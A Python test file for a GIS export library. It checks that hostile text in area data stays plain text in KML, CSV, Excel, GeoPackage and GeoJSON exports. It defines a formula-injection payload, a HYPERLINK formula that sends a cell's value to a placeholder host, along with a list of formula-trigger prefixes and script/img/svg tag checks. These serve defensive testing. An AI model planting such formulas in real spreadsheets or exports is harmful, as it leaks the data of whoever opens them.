"""What attacks in the data stays text in exported files."""

from __future__ import annotations

import dataclasses
import datetime as dt
import html.parser
import json
import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import defusedxml.ElementTree
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.snapshot import load_province, snapshot
from layers.exchange._xml import add, clean, document
from layers.exchange.delimited import written
from layers.exchange.shapefile import LONGEST, cut
from tests.hostile import ATTACK, attack_frame, attack_province, attack_snapshot
from tests.test_layers.exports import Exports, rows_of
from tests.test_layers.libreoffice import convert

if TYPE_CHECKING:
    from pathlib import Path

    from geo.snapshot import Province, Snapshot

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
KML = "{http://www.opengis.net/kml/2.2}"
ALLOWED = {"table", "tr", "th", "td", "p"}


class Tags(html.parser.HTMLParser):
    """Collects the elements and attributes of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.fixture(scope="module")
def attacked() -> tuple[Province, Snapshot]:
    """Give a province all of whose texts attack, and names that are formulas."""
    loaded = load_province("nghe-an", boundaries="bundled")
    province = attack_province(loaded)
    communes = attack_frame(province.communes, kept=frozenset({"province_code"}))
    # Ids of sources are references that the tables are checked for.
    facts = dataclasses.replace(
        province.facts,
        nodes=province.facts.nodes.assign(source_ids=loaded.facts.nodes["source_ids"]),
        roads=province.facts.roads.assign(source_ids=loaded.facts.roads["source_ids"]),
    )
    province = dataclasses.replace(province, communes=communes, facts=facts)
    plain = snapshot(province, dt.date(2026, 6, 30))
    state = attack_snapshot(plain)
    areas = state.areas.assign(source_ids=plain.areas["source_ids"])
    areas["name_vi"] = [f"{start}{FORMULA[1:]}" for start in STARTS * 20][: len(areas)]
    areas["developer"] = ATTACK
    areas["note"] = FORMULA + ATTACK * 3
    return province, dataclasses.replace(state, areas=areas)


@pytest.fixture(scope="module")
def exports(
    attacked: tuple[Province, Snapshot], tmp_path_factory: pytest.TempPathFactory
) -> Exports:
    return Exports(*attacked, tmp_path_factory.mktemp("hostile"))


def test_kml_balloons_hold_text_only(exports: Exports) -> None:
    root = defusedxml.ElementTree.fromstring(exports.path("kml").read_text(encoding="utf-8"))
    descriptions = [node.text or "" for node in root.iter(f"{KML}description")]
    assert len(descriptions) > 100
    for description in descriptions:
        found = Tags()
        found.feed(description)
        assert found.tags <= ALLOWED
        assert not found.attributes
        assert "${" not in description
    # Without it a program would show the raw values.
    balloons = [node.find(f"{KML}text") for node in root.iter(f"{KML}BalloonStyle")]
    assert {node.text for node in balloons if node is not None} == {"$[description]"}
    assert len(balloons) == len(list(root.iter(f"{KML}Style")))
    names = [node.text for node in root.iter(f"{KML}name")]
    assert f"={FORMULA[1:]}" in names


def test_csv_has_no_formula(exports: Exports) -> None:
    for form_layer in ("areas", "zones", "communes", "sources"):
        path = exports.member("csv", form_layer)
        for row in rows_of(path.read_bytes().decode(), delimiter=";"):
            for name, cell in row.items():
                number = cell.replace(",", "", 1).lstrip("-").isdigit()
                number |= cell == "="  # a sign alone is no formula
                assert number or not cell.startswith(STARTS), (form_layer, name, cell)


@pytest.mark.parametrize("opened_by", ["openpyxl", "libreoffice"])
def test_a_workbook_has_no_formula_and_no_link(
    exports: Exports, tmp_path: Path, opened_by: str
) -> None:
    path = exports.path("xlsx")
    if opened_by == "libreoffice":
        convert("xlsx:Calc MS Excel 2007 XML", tmp_path, path)
        path = tmp_path / path.name
    texts = 0
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(STARTS[:4]) or cell.value in {"=", "-"}
    assert texts > 1000


def test_styles_and_metadata_stay_xml(exports: Exports) -> None:
    with closing(sqlite3.connect(exports.path("gpkg"))) as connection:
        texts = [
            *connection.execute("SELECT styleQML FROM layer_styles"),
            *connection.execute("SELECT styleSLD FROM layer_styles"),
            *connection.execute("SELECT metadata FROM gpkg_metadata"),
        ]
        (name,) = connection.execute("SELECT name FROM areas LIMIT 1").fetchone()
    for (text,) in texts:
        tags = {
            node.tag.rpartition("}")[2] for node in defusedxml.ElementTree.fromstring(text).iter()
        }
        assert not {"script", "img", "svg"} & tags
    # A GIS gets the name as it is.
    assert name == FORMULA


def test_texts_come_back_as_they_are(exports: Exports) -> None:
    document_ = json.loads(exports.member("geojson", "areas").read_text(encoding="utf-8"))
    assert document_["features"][0]["properties"]["developer"] == ATTACK


@given(st.text())
def test_any_text_can_stand_in_xml(text: str) -> None:
    root = ET.Element("a")
    add(root, "b", text, {"c": text})
    child = defusedxml.ElementTree.fromstring(document(root)).find("b")
    # XML reads a carriage return as a line end.
    expected = clean(text).replace("\r\n", "\n").replace("\r", "\n")
    assert child is not None
    if text.strip():
        assert (child.text or "") == expected


@given(st.text(st.characters(codec="utf-8"), max_size=400))
def test_a_cut_text_fits_and_begins_the_whole(text: str) -> None:
    found = cut(text)
    assert len(found.encode()) <= LONGEST
    assert found == text or (found.endswith("…") and text.startswith(found[:-1]))


@given(st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text()))
def test_a_cell_never_begins_like_a_formula(value: Any) -> None:  # noqa: ANN401
    for numbers in ("vi", "international"):
        text = written(value, numbers)
        assert isinstance(value, int | float) or not text.startswith(STARTS)
